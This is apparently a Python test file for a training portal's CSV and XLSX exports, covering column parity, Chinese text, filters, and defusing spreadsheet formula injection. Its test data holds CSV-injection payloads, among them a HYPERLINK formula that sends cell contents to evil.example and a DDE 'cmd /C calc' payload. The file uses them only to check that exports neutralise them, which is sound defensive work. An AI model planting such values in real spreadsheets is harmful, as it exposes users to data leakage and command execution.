"""CSV and XLSX exports: same rows and columns, Chinese intact, private notes never exported."""
import io
from datetime import date

import openpyxl
import pandas as pd
from sqlmodel import select

from portal import analytics, auth, exports
from portal.i18n import Translator
from portal.models import Team


def sample() -> pd.DataFrame:
    return pd.DataFrame({"agent": ["Feng Jun 冯军", "Tang Mei 唐梅"], "average": [68.4, 79.5],
                         "held_on": [date(2026, 6, 1), date(2026, 7, 1)],
                         "reasons": [["low", "trend"], []],
                         "submitted_at": pd.to_datetime(["2026-06-01 10:00", "2026-07-01 11:00"], utc=True)})


def read_xlsx(data: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_csv_and_xlsx_have_the_same_rows_and_columns():
    frame = exports.with_headers(sample(), Translator("zh-CN"))
    csv = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
    rows = read_xlsx(exports.xlsx_bytes(frame, "风险/名单"))
    assert list(csv.columns) == list(rows[0]) == ["坐席", "近期平均分", "辅导日期", "原因", "submitted_at"]
    assert len(csv) == len(rows) - 1 == 2
    assert csv["坐席"].tolist() == [r[0] for r in rows[1:]] == ["Feng Jun 冯军", "Tang Mei 唐梅"]
    assert csv["原因"].tolist()[0] == rows[1][3] == "low, trend"


def test_csv_starts_with_a_byte_order_mark_for_excel():
    assert exports.csv_bytes(sample()).startswith("\ufeff".encode("utf-8"))


def test_dashboard_table_exports_match_the_screen_filters(demo_session):
    lead = auth.actor_for(demo_session, auth.find_user(demo_session, "lead"))
    team = demo_session.exec(select(Team).where(Team.name == "Mobile Team A")).one()
    scope = analytics.Scope("team", team.id)
    written = analytics.exam_results(demo_session, lead, scope, analytics.ResultFilter(kind="written"))
    data = exports.xlsx_bytes(exports.with_headers(written, Translator("en")), "results")
    rows = read_xlsx(data)
    monthly = written["exam_code"].str.startswith("monthly-").sum()  # the agents' six months of history
    assert len(rows) - 1 == len(written) and monthly == 36
    assert "Score (%)" in rows[0]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
           "\r=1+1"]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"agent": HOSTILE, "average": [-5.0, 70.0, 80.0, 90.0, 100.0, 60.0],
                         "=cmd|' /C calc'!A0": ["x"] * 6})


def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
    csv = pd.read_csv(io.BytesIO(exports.csv_bytes(hostile_frame())), encoding="utf-8-sig",
                      keep_default_na=False)
    assert csv["agent"].tolist() == ["'" + h for h in HOSTILE]
    assert csv["average"].tolist() == [-5.0, 70.0, 80.0, 90.0, 100.0, 60.0], "numbers stay numbers"
    assert list(csv.columns)[2] == "'=cmd|' /C calc'!A0"


def test_xlsx_has_no_formula_cell_even_for_a_hyperlink_display_name():
    workbook = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(hostile_frame())))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert workbook.active["A2"].value == "'" + HOSTILE[0]
    assert workbook.active["B2"].value == -5.0


def test_harmless_text_is_left_alone():
    assert exports.neutralise("Feng Jun 冯军") == "Feng Jun 冯军"
    assert exports.neutralise("a-b=c") == "a-b=c"
    assert exports.neutralise(-3) == -3 and exports.neutralise(None) is None


def test_reports_defuse_a_hostile_question_name(session):
    """The marks and item-analysis reports are exports too: a question named like a formula stays text."""
    from portal.quizzes import analysis
    from tests.test_item_analysis_db import sit_many

    trainer, exam = sit_many(session, people=3, tries=1)
    from portal.models import ExamSlot
    for slot in session.exec(select(ExamSlot).where(ExamSlot.exam_id == exam.id, ExamSlot.idnumber == "PRD-001")):
        slot.idnumber = '=HYPERLINK("http://evil.example","x")'
        session.add(slot)
    session.flush()
    marks = analysis.marks_csv(session, trainer, exam.id)
    assert "'=HYPERLINK" in marks and ',=HYPERLINK' not in marks


def test_the_cohort_board_csv_defuses_a_hostile_display_name(demo_session):
    from portal import onboarding
    from portal.models import User
    from portal.ui.onboarding import board_csv

    newhire = demo_session.exec(select(User).where(User.username == "newhire")).one()
    newhire.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Li Na")'
    demo_session.add(newhire)
    demo_session.flush()
    trainer = auth.actor_for(demo_session, auth.find_user(demo_session, "trainer"))
    data = board_csv(Translator("en"), onboarding.cohort_board(demo_session, trainer))
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Li Na\")" in frame.iloc[:, 0].tolist()
    assert not any(str(v).startswith("=") for v in frame.iloc[:, 0])
